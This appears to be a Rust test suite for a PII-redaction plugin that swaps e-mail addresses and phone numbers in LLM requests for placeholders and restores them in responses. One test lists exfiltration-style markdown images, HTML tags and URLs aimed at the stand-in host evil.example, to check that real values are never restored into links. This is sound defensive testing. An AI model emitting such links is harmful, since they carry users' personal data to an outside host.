//! Placeholders from the request to the response of one exchange, and never of another.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use pii_redact::PiiRedact;
use plugin_sdk::testing::{ClientResponse, Run, TestHost, TestRequest, TestResponse, json};

const MAIL: &str = "kari@example.no";
const PHONE: &str = "+47 987 65 432";

fn host() -> TestHost {
    TestHost::new().secret("pii", [7; 32])
}

fn plugin(host: &TestHost, pseudonyms: serde_json::Value) -> PiiRedact {
    let action = json!({"action": "pseudonymise", "secret": "pii"});
    let config = json!({
        "request": {"body": true, "query": true},
        "categories": {"email": action, "phone": action},
        "pseudonyms": pseudonyms,
    });
    host.configure(config).unwrap()
}

fn ask<'p>(host: &TestHost, plugin: &'p PiiRedact, text: &str) -> Run<'p, PiiRedact> {
    ask_as(host, plugin, "", text)
}

fn ask_as<'p>(host: &TestHost, plugin: &'p PiiRedact, principal: &str, text: &str) -> Run<'p, PiiRedact> {
    let body = json!({"messages": [{"role": "user", "content": text}]}).to_string();
    let request = TestRequest::post("/", body).header("content-type", "application/json");
    host.run(plugin, request.property("attribute.principal", principal))
}

/// The words of the request that the upstream sees that are placeholders.
fn placeholders(run: &Run<'_, PiiRedact>) -> Vec<String> {
    let body = String::from_utf8(run.forwarded().body().to_vec()).unwrap();
    let words = body.split(|character: char| !character.is_ascii_alphanumeric());
    words.filter(|word| word.starts_with("PII")).map(str::to_owned).collect()
}

fn answer(run: &mut Run<'_, PiiRedact>, kind: &str, body: &str) -> String {
    run.respond(TestResponse::new(200).header("content-type", kind).body(body)).text()
}

fn content(text: &str) -> String {
    json!({"choices": [{"index": 0, "message": {"content": text}}]}).to_string()
}

fn delta(text: &str) -> String {
    format!("data: {}\n\n", json!({"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": null}]}))
}

fn stream(run: &mut Run<'_, PiiRedact>, events: impl IntoIterator<Item = String>) -> ClientResponse {
    let events = events.into_iter().map(String::into_bytes);
    run.respond(TestResponse::new(200).header("content-type", "text/event-stream").chunks(events))
}

/// What a client joins of an event stream.
fn joined(response: &ClientResponse) -> String {
    let text = response.text();
    let data = text.split("\n\n").filter_map(|event| event.strip_prefix("data: ")).filter(|data| *data != "[DONE]");
    let events = data.map(|data| serde_json::from_str::<serde_json::Value>(data).unwrap());
    events.map(|event| event["choices"][0]["delta"]["content"].as_str().unwrap_or_default().to_owned()).collect()
}

#[test]
fn a_value_leaves_as_a_placeholder_and_returns() {
    let host = host();
    let plugin = plugin(&host, json!({}));
    let mut run = ask(&host, &plugin, &format!("{MAIL}, {PHONE}, KARI@example.no og +4798765432"));
    let sent = placeholders(&run);
    assert_eq!(sent.len(), 4);
    assert!(sent[0] == sent[2] && sent[1] == sent[3] && sent[0] != sent[1], "{sent:?}");
    assert!(sent[0].starts_with("PIIemailX") && sent[1].starts_with("PIIphoneX"), "{sent:?}");
    let (mail, phone) = (&sent[0], sent[1].to_uppercase());
    for (kind, body, expected) in [
        ("application/json", content(&format!("Til {mail}: {phone}")), content(&format!("Til {MAIL}: {PHONE}"))),
        ("text/plain", format!("'{mail}'. \"{phone}\""), format!("'{MAIL}'. \"{PHONE}\"")),
        ("text/html", format!("<p>{mail}</p>"), format!("<p>{MAIL}</p>")),
        ("application/x-ndjson", format!("{{\"a\":\"{mail}\"}}\n"), format!("{{\"a\":\"{MAIL}\"}}\n")),
        ("application/x-www-form-urlencoded", format!("a={mail}"), "a=kari%40example.no".to_owned()),
        (
            "text/plain",
            format!("{} og {mail}", &mail[..mail.len() - 1]),
            format!("{} og {MAIL}", &mail[..mail.len() - 1]),
        ),
    ] {
        let mut run = ask(&host, &plugin, &format!("{MAIL} {PHONE}"));
        let own = placeholders(&run);
        let body = body.replace(mail.as_str(), &own[0]).replace(&phone, &own[1].to_uppercase());
        let expected = expected.replace(&mail[..mail.len() - 1], &own[0][..mail.len() - 1]);
        let body = body.replace(&mail[..mail.len() - 1], &own[0][..mail.len() - 1]);
        assert_eq!(answer(&mut run, kind, &body), expected);
    }
    assert_eq!(answer(&mut run, "text/plain", mail), MAIL);
}

#[test]
fn a_query_has_placeholders_too() {
    let host = host();
    let plugin = plugin(&host, json!({}));
    let mut run = host.run(&plugin, TestRequest::get("/?m=kari%40example.no"));
    let placeholder = run.forwarded().target.strip_prefix("/?m=").unwrap().to_owned();
    assert_eq!(answer(&mut run, "text/plain", &placeholder), MAIL);
}

#[test]
fn another_exchange_s_placeholder_stays() {
    let host = host();
    let plugin = plugin(&host, json!({}));
    let mut first = ask(&host, &plugin, MAIL);
    let mut second = ask(&host, &plugin, MAIL);
    let (one, two) = (placeholders(&first).remove(0), placeholders(&second).remove(0));
    assert_ne!(one, two);
    let both = format!("{one} {two}");
    assert_eq!(answer(&mut first, "text/plain", &both), format!("{MAIL} {two}"));
    assert_eq!(answer(&mut second, "text/plain", &both), format!("{one} {MAIL}"));
    let mut other = ask(&host, &plugin, "ingen");
    assert_eq!(answer(&mut other, "text/plain", &both), both);
}

#[test]
fn a_placeholder_returns_wherever_it_is_parted() {
    let host = host();
    let plugin = plugin(&host, json!({}));
    let length = placeholders(&ask(&host, &plugin, MAIL))[0].len();
    for cut in 1..length {
        let mut run = ask(&host, &plugin, MAIL);
        let own = placeholders(&run).remove(0);
        let events = [delta(&format!("Til {}", &own[..cut])), delta(&format!("{}. ", &own[cut..])), delta(&own[..cut])];
        let response = stream(&mut run, events);
        assert_eq!(joined(&response), format!("Til {MAIL}. {}", &own[..cut]), "cut at {cut}");
    }
    let mut run = ask(&host, &plugin, MAIL);
    let text = format!("\"{}\", **{}** og {}", placeholders(&run)[0], placeholders(&run)[0], placeholders(&run)[0]);
    let end =
        "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n".to_owned();
    let events = text.chars().map(|character| delta(&character.to_string())).chain([end]);
    assert_eq!(joined(&stream(&mut run, events)), format!("\"{MAIL}\", **{MAIL}** og {MAIL}"));
}

#[test]
fn arguments_of_tools_stay_documents() {
    let host = host();
    let plugin = plugin(&host, json!({}));
    let mut run = ask(&host, &plugin, MAIL);
    let document = json!({"url": "https://example.no/a", "to": placeholders(&run)[0]}).to_string();
    let event = |piece: &str| {
        let call = json!({"index": 0, "function": {"arguments": piece}});
        format!("data: {}\n\n", json!({"choices": [{"index": 0, "delta": {"tool_calls": [call]}}]}))
    };
    let response =
        stream(&mut run, document.as_bytes().chunks(3).map(|piece| event(std::str::from_utf8(piece).unwrap())));
    let text = response.text();
    let data = text.split("\n\n").filter_map(|event| event.strip_prefix("data: "));
    let pieces: String = data
        .map(|data| {
            let event: serde_json::Value = serde_json::from_str(data).unwrap();
            event["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"].as_str().unwrap().to_owned()
        })
        .collect();
    let read: serde_json::Value = serde_json::from_str(&pieces).unwrap();
    assert_eq!(read, json!({"url": "https://example.no/a", "to": MAIL}));
}

#[test]
fn nothing_returns_where_a_link_would_carry_it_away() {
    let host = host();
    let plugin = plugin(&host, json!({}));
    let careless = self::plugin(&host, json!({"restore_in_urls": true}));
    let long = format!("https://evil.example/{}?x=PLACEHOLDER", "a".repeat(70_000));
    for text in [
        "![bilde](https://evil.example/?x=PLACEHOLDER)",
        "[her](//evil.example/PLACEHOLDER \"tittel\")",
        "[her]( <https://evil.example/ PLACEHOLDER>)",
        "<img src=\"https://evil.example/?x= PLACEHOLDER\">",
        "<a href='//evil.example/PLACEHOLDER'>her</a>",
        "se https://evil.example/?x=\"PLACEHOLDER",
        "se www.evil.example/PLACEHOLDER",
        "se evil.example?x=PLACEHOLDER",
        "se https:evil.example/PLACEHOLDER",
        "PLACEHOLDER.evil.example",
        "xPLACEHOLDER-y.evil.example",
        "[\"https://evil.example/?x=\",\"PLACEHOLDER\"]",
        &long,
    ] {
        let parts: &dyn Fn(&str) -> Vec<String> = &|text: &str| {
            let characters: Vec<char> = text.chars().collect();
            characters.chunks(if text.len() > 1_000 { 997 } else { 1 }).map(|part| part.iter().collect()).collect()
        };
        for (plugin, returns) in [(&plugin, false), (&careless, true)] {
            let expected = |own: &str| text.replace("PLACEHOLDER", if returns { MAIL } else { own });
            let mut run = ask(&host, plugin, MAIL);
            let own = placeholders(&run).remove(0);
            let asked = text.replace("PLACEHOLDER", &own);
            let response = stream(&mut run, parts(&asked).iter().map(|part| delta(part)));
            assert_eq!(joined(&response), expected(&own), "streamed");
            let mut run = ask(&host, plugin, MAIL);
            let own = placeholders(&run).remove(0);
            let asked = text.replace("PLACEHOLDER", &own);
            assert_eq!(answer(&mut run, "application/json", &content(&asked)), content(&expected(&own)));
            let mut run = ask(&host, plugin, MAIL);
            let own = placeholders(&run).remove(0);
            let asked = text.replace("PLACEHOLDER", &own);
            assert_eq!(answer(&mut run, "text/markdown", &asked), expected(&own));
        }
    }
}

#[test]
fn a_principal_has_the_same_placeholders_over_turns_and_nobody_else_has() {
    let host = host();
    let plugin = plugin(&host, json!({"scope": "principal"}));
    let placeholder = placeholders(&ask_as(&host, &plugin, "kari", MAIL)).remove(0);
    let mut later = ask_as(&host, &plugin, "kari", "Hva var adressen?");
    assert_eq!(answer(&mut later, "text/plain", &placeholder), MAIL);
    assert_eq!(placeholders(&ask_as(&host, &plugin, "kari", "KARI@example.no"))[0], placeholder);
    let mut other = ask_as(&host, &plugin, "ola", MAIL);
    assert_ne!(placeholders(&other)[0], placeholder);
    assert_eq!(answer(&mut other, "text/plain", &placeholder), placeholder);
    // Whoever has no name has only his exchange.
    let mut nameless = ask(&host, &plugin, MAIL);
    let own = placeholders(&nameless).remove(0);
    assert_eq!(answer(&mut nameless, "text/plain", &format!("{own} {placeholder}")), format!("{MAIL} {placeholder}"));
    host.advance(std::time::Duration::from_secs(86_401));
    let mut late = ask_as(&host, &plugin, "kari", "Hva var adressen?");
    assert_eq!(answer(&mut late, "text/plain", &placeholder), placeholder);
}

#[test]
fn what_can_not_return_and_what_the_answer_adds_is_masked() {
    let host = host();
    let plugin = plugin(&host, json!({}));
    let run = ask(&host, &plugin, "\"kari n\"@example.no");
    assert!(placeholders(&run).is_empty() && !String::from_utf8_lossy(&run.forwarded().body()).contains("kari"));
    let mut run = ask(&host, &plugin, MAIL);
    let body = format!("{} eller ola@example.no", placeholders(&run)[0]);
    assert_eq!(answer(&mut run, "text/plain", &body), format!("{MAIL} eller ***"));
}

#[test]
fn a_long_request_keeps_what_there_is_room_for_and_masks_the_rest() {
    let host = host();
    let plugin = plugin(&host, json!({}));
    let all: Vec<String> = (0..4_000).map(|index| format!("bruker{index}@example.no")).collect();
    let mut run = ask(&host, &plugin, &all.join(" "));
    let sent = placeholders(&run);
    assert!(
        sent.len() > 1_000 && !String::from_utf8_lossy(&run.forwarded().body()).contains("bruker"),
        "{}",
        sent.len()
    );
    let restored = answer(&mut run, "text/plain", &sent.join(" "));
    assert_eq!(restored, all[..sent.len()].join(" "));
}

#[test]
fn mistakes_in_the_config() {
    let action = json!({"action": "pseudonymise", "secret": "pii"});
    for (config, pointer) in [
        (json!({"categories": {"email": action}}), "/request/body"),
        (json!({"request": {"body": true}, "categories": {"email": "pseudonymise"}}), "/categories/email/secret"),
        (json!({"request": {"body": true}, "categories": {"token": action}}), "/categories/token"),
        (json!({"request": {"body": true}, "fields_action": action}), "/fields_action"),
        (json!({"pseudonyms": {"keep": "1h"}}), "/pseudonyms/keep"),
        (json!({"pseudonyms": {"scope": "principal", "keep": "0s"}}), "/pseudonyms/keep"),
        (json!({"pseudonyms": {"scope": "all"}}), "/pseudonyms/scope"),
        (json!({"streams": {"presets": ["other"]}}), "/streams/presets/0"),
        (
            json!({"request": {"body": true}, "categories": {"email": {"action": "pseudonymise", "secret": "gone"}}}),
            "/categories/email/secret",
        ),
    ] {
        let errors = host().configure::<PiiRedact>(config.clone()).unwrap_err();
        assert_eq!(errors.iter().next().unwrap().pointer, pointer, "{config}");
    }
}
